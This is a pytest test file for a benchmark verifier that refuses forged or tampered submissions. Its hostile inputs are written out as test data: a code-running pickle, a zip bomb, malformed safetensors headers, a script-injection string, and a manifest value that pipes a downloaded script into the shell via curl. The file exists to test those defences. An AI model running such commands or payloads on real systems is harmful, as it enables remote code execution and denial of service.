"""What cannot be verified is refused in one sentence; what can be is measured again."""

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file
from typer.testing import Result

from suite.core.data import tasks
from suite.records.cells import Trial
from suite.records.record import Record
from suite.records.submission import SET, Submission
from tests.support import foreign_sets
from tests.support.command_line import ratbench, refused
from tests.support.hostile_files import Payload
from tests.support.submissions import drawn, packed, signed, with_images, with_manifest

pytestmark = pytest.mark.usefixtures("elsewhere", "read_here", "untrained")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A submission with a claim that is true."""
    return packed(tmp_path)


def verify(folder: Path, *more: str) -> Result:
    return ratbench("verify", folder, "--cpu", *more)


def no_report(folder: Path) -> bool:
    return not (folder / "verification").exists()


class TestVerified:
    def test_a_true_claim(self, folder: Path) -> None:
        result = verify(folder)
        assert result.exit_code == 0, result.output
        assert "verified: " in result.stdout and "claimed 70.0% (submission:mine)" in result.stdout
        own, files = Submission.read(folder), folder / "verification"
        names = ["distillation.json", "evaluation-1.json", "report.md"]
        assert sorted(path.name for path in files.iterdir()) == names
        trial, evaluation = (Record.model_validate_json((files / name).read_bytes()) for name in names[:2])
        assert isinstance(trial.cell, Trial)
        assert (trial.cell.method, trial.cell.source) == (own.label, own.sha256)
        assert (trial.method_title, trial.paper) == (own.title, own.paper) and trial.test_reads == 0
        assert trial.artefact == own.files[SET]  # the set is stored in one way
        assert len(evaluation.scores["accuracy"]) == 5 and evaluation.sha256
        assert evaluation.test_reads == 2  # to search for test images, and to score
        report = (files / "report.md").read_text()
        for part in ("**Verified**", "| claimed | `dc-300` |", "| verified | `dc-300` |", own.sha256):
            assert part in report
        assert "reads of the test split: 2, 1 of them to search for test images" in report
        assert f"drawn for this verification: `{evaluation.cell.seed}`" in report
        refused(verify(folder), "is verified already; use --output")
        again = verify(folder, "--output", "elsewhere", "--recipe", "rtp-300", "--copies", "6")
        assert again.exit_code == 0, again.output
        found = [
            Record.model_validate_json(path.read_bytes()) for path in sorted(Path("elsewhere").glob("ev*"))
        ]
        assert [len(each.scores["accuracy"]) for each in found] == [6, 6]
        assert found[0].cell.seed == found[1].cell.seed != evaluation.cell.seed
        assert [each.test_reads for each in found] == [2, 1]

    def test_trusted_labels_are_trusted_again(self, tmp_path: Path) -> None:
        (tmp_path / "from").mkdir()
        mtt = foreign_sets.mtt(tmp_path / "from")
        torch.save((foreign_sets.flat()[1] + 1) % 10, mtt / "labels_best.pt")
        given = ("--task", "digits", "--ipc", "2", "--method", "odd", "--claim", "99", "--cpu")
        about = ("--paper", "https://a.org", "--code", "https://a.org", "--author", "A <a@b.org>")
        net = ("--network", "convnet-d1-w8-in", "--recipe", "dc-300")
        refused(ratbench("submit", mtt, *given, *about, *net), "the labels look permuted")
        assert ratbench("submit", mtt, *given, *about, *net, "--trust-labels").exit_code == 0
        result = verify(Path("results/submissions/odd"), "--output", "out")
        assert result.exit_code == 1 and "the claim of 99.0%" in result.stdout
        assert "but are trusted" in Path("out/report.md").read_text()


class TestForged:
    def test_a_score(self, folder: Path) -> None:
        claim = {**Submission.read(folder).claim.model_dump(), "accuracy": 0.99}
        signed(folder, claim=claim)
        result = verify(folder)
        assert result.exit_code == 1 and "refused: the claim of 99.0% is" in result.stdout
        assert "Traceback" not in result.output and no_report(folder)
        assert verify(folder, "--output", "out").exit_code == 1
        assert [path.name for path in Path("out").iterdir()] == ["report.md"]
        assert "# Refused: mine" in Path("out/report.md").read_text()

    def test_invented_accuracies_of_a_wide_spread_help_nobody(self, folder: Path) -> None:
        wide = {"accuracies": [0.94, 0.94, 1.0, 1.0, 1.0], "accuracy": 0.976, "low": 0.5, "high": 1.0}
        signed(folder, claim={**Submission.read(folder).claim.model_dump(), **wide})
        assert verify(folder).exit_code == 1

    def test_a_swapped_set(self, folder: Path) -> None:
        tensors = load_file(folder / SET)
        save_file({**tensors, "images": tensors["images"].flip(0)}, folder / SET)
        refused(verify(folder), "set.safetensors is not the file that was signed")
        assert no_report(folder)

    def test_a_page_that_tells_other_things(self, folder: Path) -> None:
        signed(folder, page="# Verified: 99%\n<script>alert(1)</script>\n")
        refused(verify(folder), "README.md is not the page of these facts")
        assert no_report(folder)

    @pytest.mark.parametrize("name", ["set.json", "README.md"])
    def test_another_file(self, name: str, folder: Path) -> None:
        (folder / name).write_text((folder / name).read_text() + " ")
        refused(verify(folder), f"{name} is not the file that was signed")

    def test_edited_facts(self, folder: Path) -> None:
        path = folder / "submission.toml"
        path.write_text(path.read_text().replace("accuracy = 0.7", "accuracy = 0.6"))
        refused(verify(folder), "was edited after it was signed")

    def test_facts_of_other_data(self, folder: Path) -> None:
        signed(folder, data="0" * 64)
        refused(verify(folder), "mine was made on data 000000000000, and digits has data", "the same data")

    def test_a_task_that_only_its_author_has(self, folder: Path) -> None:
        signed(folder, task="cifar10:holdout")
        refused(verify(folder), "a submission is for a task of `ratbench list tasks`")

    def test_two_submissions_of_one_name(self, folder: Path) -> None:
        folder.with_name("Mine").mkdir()
        refused(verify(folder), "two submissions have one name: 'Mine' and 'mine'; rename one")

    def test_few_networks(self, folder: Path) -> None:
        refused(verify(folder, "--copies", "4"), "--copies 4: a claim is judged by at least 5 networks")


def _more(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("x")


def _linked(folder: Path, name: str) -> None:
    outside = folder.parent / f"outside-{name}"
    (folder / name).rename(outside)
    (folder / name).symlink_to(outside)


def _linked_folder(folder: Path) -> None:
    (folder.parent / "records").mkdir()
    (folder / "verification").symlink_to(folder.parent / "records")


def _instead(path: Path, make: Callable[[Path], object]) -> None:
    path.unlink()
    make(path)


FOLDERS: dict[str, tuple[Callable[[Path], object], str]] = {
    "more files": (lambda at: _more(at, "setup.py"), "setup.py is not part of a submission"),
    "hidden files": (lambda at: _more(at, ".env"), ".env is not part of a submission"),
    "more folders": (lambda at: _more(at, "data/test.pt"), "data is not part of a submission"),
    "another set": (lambda at: _more(at, "exact.safetensors"), "exact.safetensors is not part"),
    "names to fool a terminal": (lambda at: _more(at, "a\x1b[2Jb\n"), "a?[2Jb? is not part"),
    "more records": (lambda at: _more(at, "verification/evaluation.pkl"), "evaluation.pkl is not part"),
    "a link to the set": (lambda at: _linked(at, SET), "set.safetensors is a link"),
    "a link to the facts": (lambda at: _linked(at, "submission.toml"), "submission.toml is a link"),
    "a broken link": (
        lambda at: _instead(at / "README.md", lambda path: path.symlink_to("/nowhere")),
        "README.md is a link",
    ),
    "a link to a folder": (_linked_folder, "verification is a link"),
    "a folder for a file": (lambda at: _instead(at / SET, Path.mkdir), "no plain file"),
    "a pipe": (lambda at: _instead(at / SET, os.mkfifo), "no plain file"),
    "a missing file": (lambda at: (at / "set.json").unlink(), "set.json cannot be read"),
    "no facts": (
        lambda at: (at / "submission.toml").unlink(),
        "is not a folder that `ratbench submit` wrote",
    ),
}


@pytest.mark.parametrize("name", FOLDERS)
def test_a_folder_that_is_not_as_it_was_packed(name: str, folder: Path) -> None:
    change, part = FOLDERS[name]
    change(folder)
    refused(verify(folder, "--output", "out"), part)
    assert not Path("out").exists()


def test_no_folder(tmp_path: Path, folder: Path) -> None:
    refused(verify(tmp_path / "nowhere"), "nowhere is not a folder that `ratbench submit` wrote")
    folder.with_name("link").symlink_to(folder)
    refused(verify(folder.with_name("link")), "is not a folder")


def _pickle(folder: Path) -> bytes:
    return pickle.dumps(Payload(folder / "ran"), protocol=2)


def _bomb(folder: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("images.npy", bytes(2**26))
    return buffer.getvalue()


def _header(text: str | bytes, length: int | None = None, data: bytes = b"") -> Callable[[Path], bytes]:
    raw = text.encode() if isinstance(text, str) else text
    return lambda folder: struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _claims(shape: list[int], end: int) -> str:
    images = {"dtype": "F32", "shape": shape, "data_offsets": [0, end]}
    return json.dumps(
        {"images": images, "labels": {"dtype": "F32", "shape": [10, 2, 10], "data_offsets": [0, 800]}}
    )


HOSTILE: dict[str, Callable[[Path], bytes]] = {
    "a pickle with code": _pickle,
    "a zip bomb": _bomb,
    "a truncated header": lambda at: (at / SET).read_bytes()[:20],
    "truncated tensors": lambda at: (at / SET).read_bytes()[:-100],
    "bytes after the tensors": lambda at: (at / SET).read_bytes() + b"hidden",
    "a header of 2⁶⁰ bytes": _header("{}", 2**60),
    "a huge shape": _header(_claims([10, 2**20, 1, 2**20, 2**20], 800), data=bytes(800)),
    "a shape whose product overflows": _header(_claims([2**32, 2**32, 1, 8, 8], 800), data=bytes(800)),
    "overlapping tensors": _header(_claims([10, 2, 1, 8, 8], 5120), data=bytes(5120)),
    "no JSON": _header(b"\xff" * 100),
    "deep JSON": _header("[" * 50_000),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file(name: str, folder: Path) -> None:
    (folder / SET).write_bytes(HOSTILE[name](folder))
    with_manifest(folder)
    refused(verify(folder, "--output", "out"), "is refused: set.safetensors is damaged, or not a safetensors")
    assert not (folder / "ran").exists() and not Path("out").exists()


@pytest.mark.parametrize(
    "facts",
    [
        {"loader": "import os; os.system('curl example.org | sh')"},
        {"parametrisation": {"kind": "multi_formation", "settings": {"factor": 10**6}}},
        {"class_names": list("0123456798")},
        {"readme": "<script>"},
    ],
)
def test_a_manifest_that_is_not_that_of_the_set(facts: dict[str, object], folder: Path) -> None:
    with_manifest(folder, **facts)
    (name,) = facts
    part = (
        "the labels look permuted" if name == "class_names" else f"set.json: {name!r} is not that of the set"
    )
    refused(verify(folder), part)


class TestBesidesTheSet:
    def test_more_tensors(self, folder: Path) -> None:
        with_images(folder, load_file(folder / SET)["images"], hidden=torch.zeros(3))
        refused(verify(folder), "set.safetensors holds 'hidden' besides the set")

    def test_text(self, folder: Path) -> None:
        save_file(load_file(folder / SET), folder / SET, {"note": "x"})
        with_manifest(folder)
        refused(verify(folder), "set.safetensors holds 'note' besides the set")


class TestTestImages:
    def test_a_set_of_them(self, folder: Path) -> None:
        with_images(folder, drawn(tasks.load("digits").split.read(), 2).images)
        result = verify(folder, "--output", "out")
        assert result.exit_code == 1 and "refused: the set holds 20 test images: image 0 of" in result.stdout
        report = Path("out/report.md").read_text()
        assert "**Refused**: the set holds 20 test images" in report
        assert "reads of the test split: 1, 1 of them" in report

    def test_one_of_them_changed_a_little(self, folder: Path) -> None:
        images = load_file(folder / SET)["images"].clone()
        images[4, 1] = 0.7 * tasks.load("digits").split.read().images[9].flip(2) + 0.1
        with_images(folder, images)
        result = verify(folder)
        assert result.exit_code == 1 and no_report(folder)
        assert "image 1 of class 4 is test image 9 changed a little" in result.stdout
